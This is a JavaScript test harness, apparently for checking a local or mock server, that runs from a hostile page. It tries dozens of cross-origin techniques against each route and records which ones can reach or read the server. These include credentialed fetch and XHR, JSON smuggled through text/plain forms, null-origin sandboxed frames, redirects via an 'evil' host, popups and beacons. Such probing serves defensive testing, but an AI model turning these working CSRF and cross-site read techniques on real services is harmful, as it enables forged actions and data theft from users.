// What a page can do to another server: each way, on each route. Evaluated in a page of the attacker's choice.
// attack({base, evil, routes, ways, named}) resolves to {tried, reads}: how often each way was tried, and what it could read.
(() => {
  const WAIT = 3000;
  const within = (promise, fallback = "") =>
    Promise.race([promise.catch(() => ""), new Promise((done) => setTimeout(() => done(fallback), WAIT))]);
  const text = (url, options) =>
    fetch(url, options).then(async (answer) => {
      if (answer.type === "opaque" || answer.type === "opaqueredirect") return "";
      const endless = new Promise((done) => setTimeout(() => done("it does not end"), WAIT / 2)); // a stream is read, too
      const said = await Promise.race([answer.text(), endless]);
      return answer.status < 400 ? `${answer.status} ${said.slice(0, 80)}` : "";
    });
  const bodied = (method, kind, body) =>
    method === "GET" || method === "HEAD" ? {} : { body, headers: kind ? { "content-type": kind } : {} };
  const hidden = (tag, set) =>
    new Promise((done) => {
      const node = document.createElement(tag);
      node.onload = () => done(node);
      node.onerror = () => done(null);
      set(node);
      node.hidden = tag !== "object"; // one of those that is not shown is not loaded
      (document.body || document.documentElement).appendChild(node);
    });
  const loaded = (tag, key, extra = {}) => async (url) => {
    const node = await within(hidden(tag, (it) => Object.assign(it, extra, { [key]: url })), null);
    let said = "";
    try {
      said = node && node.contentDocument && node.contentDocument.body ? node.contentDocument.body.innerText : "";
    } catch (refused) {
      said = "";
    }
    if (node && node.naturalWidth) said = "an image";
    if (node) node.remove();
    return /"success":false|"status":4/.test(said) ? "" : said.slice(0, 80);
  };
  const pause = (ms) => new Promise((done) => setTimeout(done, ms));
  const framed = async (set) => {
    const frame = await within(hidden("iframe", set), null);
    await pause(300);
    if (frame) frame.remove();
    return "";
  };
  const form = (url, method, kind, fields, target) => {
    const node = document.createElement("form");
    Object.assign(node, { action: url, method, enctype: kind, target });
    for (const [name, value] of Object.entries(fields)) {
      const field = document.createElement("input");
      Object.assign(field, { name, value, type: "hidden" });
      node.appendChild(field);
    }
    document.body.appendChild(node);
    node.submit();
    node.remove();
  };
  let frames = 0;
  const posted = (kind, fields) => async (url, method, body) => {
    const name = `frame${++frames}`;
    const done = hidden("iframe", (it) => {
      it.name = name;
      it.src = "about:blank";
    });
    const frame = await done;
    const answered = new Promise((ready) => (frame.onload = ready));
    form(url, method, kind, fields(body, url), name);
    await within(answered);
    frame.remove();
    return "";
  };
  // {"a": 1} as text/plain: the name holds the beginning, the value the end.
  const disguised = (body) => ({ [body.slice(0, -1) + (body.length > 2 ? "," : "") + '"x":"']: '"}' });
  const inside = (script) => `<script>${script}<\/script>`;
  const asked = (url, method, body) =>
    `Promise.all(["cors", "no-cors"].map((mode) => fetch(${JSON.stringify(url)}, {mode, method: ${JSON.stringify(method)}` +
    `${method === "GET" ? "" : ", body: " + JSON.stringify(body)}}).then(a => a.status < 400 ? a.text() : "", () => "")))` +
    `.then((texts) => parent.postMessage(texts.join(""), "*"));`;
  const heard = async (set) => {
    const frame = document.createElement("iframe");
    let hear = null;
    const said = new Promise((done) => (hear = (event) => event.source === frame.contentWindow && done(event.data)));
    addEventListener("message", hear);
    set(frame);
    frame.hidden = true;
    document.body.appendChild(frame);
    const read = await within(said);
    removeEventListener("message", hear);
    frame.remove();
    return read;
  };
  const worker = (kind) => async (url, method, body) => {
    const code = `fetch(${JSON.stringify(url)}, {mode: "${kind}", method: "${method}"${
      method === "GET" ? "" : ", body: " + JSON.stringify(body)
    }}).then(a => a.status < 400 ? a.text() : "").then(t => postMessage(t), () => postMessage(""))`;
    const made = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    const said = await within(new Promise((done) => (made.onmessage = (event) => done(event.data))));
    made.terminate();
    return said;
  };
  const xhr = (credentials) => (url, method, body) =>
    new Promise((done) => {
      const it = new XMLHttpRequest();
      it.onload = () => done(it.status < 400 ? it.responseText.slice(0, 80) : "");
      it.onerror = () => done("");
      it.open(method, url);
      it.withCredentials = credentials;
      it.send(method === "GET" ? null : body);
    });
  let popup = null;
  const until = async (good) => {
    for (const end = Date.now() + WAIT; !good() && Date.now() < end; ) await pause(10);
  };
  // What a window shows; null while it is still empty, nothing when it is another site's.
  const shown = () => {
    try {
      if (popup.location.href === "about:blank") return null;
      return popup.document.readyState === "complete" ? popup.document.body.innerText : null;
    } catch (refused) {
      return "";
    }
  };
  const windowed = (go) => async (url, method, body) => {
    popup = popup && !popup.closed ? popup : open("about:blank", "popup");
    if (!popup) return "";
    popup.location = "about:blank";
    await until(() => shown() === null);
    go(url, body);
    await until(() => shown() !== null);
    return (shown() || "").slice(0, 80).replace(/.*"success":false.*/s, "");
  };
  const get = ["GET"], simple = ["GET", "POST"], post = ["POST"], any = ["GET", "POST", "PUT", "DELETE"];
  const by = (options, kind) => (url, method, body) =>
    text(url, { ...options, method, ...bodied(method, kind, body) });
  const WAYS = {
    "fetch, cors": [any, by({ mode: "cors" })],
    "fetch, text/plain": [simple, by({ mode: "cors" }, "text/plain")],
    "fetch, JSON": [any, by({ mode: "cors" }, "application/json")],
    "fetch, no-cors": [simple, by({ mode: "no-cors" }, "text/plain")],
    "fetch, no-cors, JSON": [simple, by({ mode: "no-cors" }, "application/json")],
    "fetch, no-cors, form": [simple, (u, m, b) => text(u, { mode: "no-cors", method: m, ...(m === "GET" ? {} : { body: new URLSearchParams({ b }) }) })],
    "fetch, no-cors, multipart": [post, (u, m, b) => { const f = new FormData(); f.append("b", b); return text(u, { mode: "no-cors", method: m, body: f }); }],
    "fetch, no type": [post, (u, m, b) => text(u, { mode: "no-cors", method: m, body: new Blob([b]) })],
    "fetch, credentials": [any, by({ mode: "cors", credentials: "include" })],
    "fetch, same-origin": [any, by({ mode: "same-origin" }, "application/json")],
    "fetch, keepalive, no referrer": [simple, by({ mode: "no-cors", keepalive: true, referrerPolicy: "no-referrer" })],
    "fetch, a header of ours": [any, (u, m, b) => text(u, { method: m, headers: { "X-Mock-Workspace": "default", "content-type": "application/json" }, ...(m === "GET" ? {} : { body: b }) })],
    "fetch, a key": [any, (u, m, b) => text(u, { method: m, headers: { authorization: "Bearer sk_test_local", "content-type": "application/json" }, ...(m === "GET" ? {} : { body: b }) })],
    "fetch, redirected 307": [simple, (u, m, b) => text(`${config.evil}/redirect?code=307&to=${encodeURIComponent(u)}`, { mode: "no-cors", method: m, ...bodied(m, "text/plain", b) })],
    "fetch, redirected 302": [simple, (u, m, b) => text(`${config.evil}/redirect?code=302&to=${encodeURIComponent(u)}`, { mode: "cors", method: m, ...bodied(m, "text/plain", b) })],
    "XMLHttpRequest": [any, xhr(false)],
    "XMLHttpRequest, credentials": [any, xhr(true)],
    "sendBeacon, text": [post, async (u, m, b) => { navigator.sendBeacon(u, b); return ""; }],
    "sendBeacon, JSON": [post, async (u, m, b) => { try { navigator.sendBeacon(u, new Blob([b], { type: "application/json" })); } catch (refused) {} return ""; }],
    "sendBeacon, form": [post, async (u, m, b) => { navigator.sendBeacon(u, new URLSearchParams({ b })); return ""; }],
    "form, GET": [get, posted("application/x-www-form-urlencoded", (b, u) => Object.fromEntries(new URL(u).searchParams))],
    "form, POST": [post, posted("application/x-www-form-urlencoded", () => ({ a: "b" }))],
    "form, text/plain": [post, posted("text/plain", disguised)],
    "form, multipart": [post, posted("multipart/form-data", () => ({ a: "b" }))],
    "image": [get, loaded("img", "src")],
    "script": [get, loaded("script", "src")],
    "script, module": [get, loaded("script", "src", { type: "module" })],
    "style sheet": [get, loaded("link", "href", { rel: "stylesheet" })],
    "prefetch": [get, loaded("link", "href", { rel: "prefetch" })],
    "preload": [get, loaded("link", "href", { rel: "preload", as: "fetch", crossOrigin: "anonymous" })],
    "frame": [get, loaded("iframe", "src")],
    "object": [get, loaded("object", "data")],
    "embed": [get, loaded("embed", "src")],
    "video": [get, async (u) => { await framed((it) => (it.srcdoc = `<video src="${u}"></video>`)); return ""; }],
    "font and background": [get, async (u) => framed((it) => (it.srcdoc = `<style>@import url("${u}");@font-face{font-family:x;src:url("${u}")}body{font-family:x;background:url("${u}")}</style>x`))],
    "WebSocket": [get, (u) => new Promise((done) => { const it = new WebSocket(u.replace("http", "ws")); it.onopen = () => done("open"); it.onerror = () => done(""); })],
    "EventSource": [get, (u) => new Promise((done) => { const it = new EventSource(u); it.onmessage = (e) => { it.close(); done(`event ${e.data}`); }; it.onopen = () => { it.close(); done("open"); }; it.onerror = () => { it.close(); done(""); }; })],
    "worker, cors": [simple, worker("cors")],
    "worker, no-cors": [simple, worker("no-cors")],
    "null origin: sandboxed frame": [any, (u, m, b) => heard((it) => { it.sandbox = "allow-scripts"; it.srcdoc = inside(asked(u, m, b)); })],
    "null origin: data URL": [any, (u, m, b) => heard((it) => (it.src = "data:text/html," + encodeURIComponent(inside(asked(u, m, b)))))],
    "null origin: form in a sandbox": [post, (u, m, b) => framed((it) => { it.sandbox = "allow-scripts allow-forms"; it.srcdoc = `<form id=f method=post enctype=text/plain action="${u}"><input name='{"x":"' value='"}'></form>` + inside("document.getElementById('f').submit()"); })],
    "ping of a link": [post, async (u) => { const a = document.createElement("a"); Object.assign(a, { href: "#x", ping: u }); document.body.appendChild(a); a.click(); a.remove(); return ""; }],
    "report of a policy": [post, (u) => framed((it) => (it.src = `${config.evil}/policy?report=${encodeURIComponent(u)}`))],
    "refresh": [get, async (u) => {
      let loads = 0, there = null;
      const second = new Promise((done) => (there = () => ++loads === 2 && done()));
      const frame = await within(hidden("iframe", (it) => {
        it.addEventListener("load", there);
        it.src = `${config.evil}/refresh?to=${encodeURIComponent(u)}`;
      }), null);
      await within(second);
      if (frame) frame.remove();
      return "";
    }],
    "window": [get, windowed((u) => (popup.location = u)), "alone"],
    "form into a window": [post, windowed((u, b) => form(u, "post", "text/plain", disguised(b), "popup")), "alone"],
  };
  let config = null;
  window.attackWays = Object.keys(WAYS);
  window.attack = async (asked) => {
    config = asked;
    const jobs = [], alone = []; // there is one window: what opens in it would cut off what came before
    for (const name of config.ways) {
      const [methods, run, order] = WAYS[name];
      const seen = new Set();
      for (const [method, path, body] of config.routes) {
        const used = methods.includes(method) ? method : methods[methods.length - 1];
        if (seen.has(used + path)) continue;
        seen.add(used + path);
        (order ? alone : jobs).push([name, run, used, path, body]);
      }
    }
    const tried = {}, reads = [];
    const one = async (queue) => {
      for (let job; (job = queue.shift()); ) {
        const [name, run, method, path, body] = job;
        // Named for the attacker's own server only: routes of ours would refuse an unknown parameter.
        const url = `${config.base}${path}` + (config.named ? `?way=${encodeURIComponent(name)}` : "");
        const said = await within(Promise.resolve().then(() => run(url, method, body)));
        tried[name] = (tried[name] || 0) + 1;
        if (said) reads.push(`${name}: ${method} ${path}: ${String(said).slice(0, 80)}`);
      }
    };
    await Promise.all(Array.from({ length: 12 }, () => one(jobs)));
    await one(alone); // last: a page behind a window loads no video
    if (popup) popup.close();
    return { tried, reads };
  };
})();
